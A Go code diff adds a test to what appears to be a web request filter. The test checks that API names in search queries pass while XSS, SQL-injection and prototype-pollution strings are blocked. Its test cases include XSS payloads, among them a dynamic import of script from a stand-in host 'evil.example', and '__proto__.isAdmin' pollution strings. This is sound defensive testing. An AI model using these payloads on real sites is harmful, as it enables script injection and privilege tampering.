@@ -146,3 +146,36 @@ func FuzzProseView(f *testing.F) {
 		}
 	})
 }
+
+// TestNamesInTitles checks the rules narrowed so that a title or search
+// naming an API ("Reflect.apply()", "abs() CSS function", "property name
+// __proto__ appears twice") passes: each still blocks its attacks.
+func TestNamesInTitles(t *testing.T) {
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		q, rule string // rule "" passes
+	}{
+		{"Reflect.apply()", ""},
+		{"String.fromCharCode()", ""},
+		{"import()", ""},
+		{"abs() CSS function", ""},
+		{"SyntaxError: property name __proto__ appears more than once in object literal", ""},
+		{"Reflect.apply(eval, null, ['alert(1)'])", "bw-xss-006"},
+		{"String.fromCharCode(88,83,83)", "bw-xss-006"},
+		{"import('//evil.example/x.js')", "bw-xss-006"},
+		{"setTimeout(name)", "bw-xss-006"},
+		{"atob()", "bw-xss-006"},
+		{"ceil()", "bw-sqli-009"},
+		{"date_add()", "bw-sqli-009"},
+		{"__proto__.isAdmin", "bw-proto-001"},
+		{"a __proto__[isAdmin]", "bw-proto-001"},
+	} {
+		v := e.Inspect(&Request{Method: "GET", URI: "/search?q=" + url.QueryEscape(c.q), Header: http.Header{}})
+		if c.rule == "" && v.Action != Allow || c.rule != "" && (v.Action != Block || !hasRule(v, c.rule)) {
+			t.Errorf("q=%s: %v %v, want %q", c.q, v.Action, v.Findings, c.rule)
+		}
+	}
+}
